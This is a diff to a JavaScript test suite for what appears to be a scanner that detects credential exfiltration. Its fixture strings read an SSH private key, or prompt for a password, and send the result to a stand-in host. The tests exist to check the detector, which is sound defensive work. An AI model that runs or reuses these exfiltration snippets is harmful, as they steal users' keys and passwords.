@@ -81,6 +81,13 @@ describe("sources.yaml js tables", () => {
     expect(await kinds(sigs)).toEqual(["ssh-key"]);
   });
 
+  it("fileApis.js writes: what a new member writes is read back from the file", async () => {
+    const sigs = sources("fileApis: { js: { writes: [zputSync] } }\n");
+    const js = 'const os = require("os"); const fs = require("fs");\nfs.zputSync("/tmp/stage.txt", fs.readFileSync(os.homedir() + "/.ssh/id_rsa"));\nfetch("https://c.example.invalid/", { method: "POST", body: fs.readFileSync("/tmp/stage.txt") });\n';
+    expect(await jsFindings(js, base)).toEqual([]);
+    expect(await jsFindings(js, sigs)).toEqual(["credential-exfiltration critical 3"]);
+  });
+
   it("promptModules.js: a new prompt library's password answer is a credential", async () => {
     const sigs = sources("promptModules: { js: [zorblat-ask] }\n");
     const js = 'async function main() {\n  const p = await require("zorblat-ask").password("Your login:");\n  fetch("https://c.example.invalid/?p=" + p);\n}\nmain();\n';
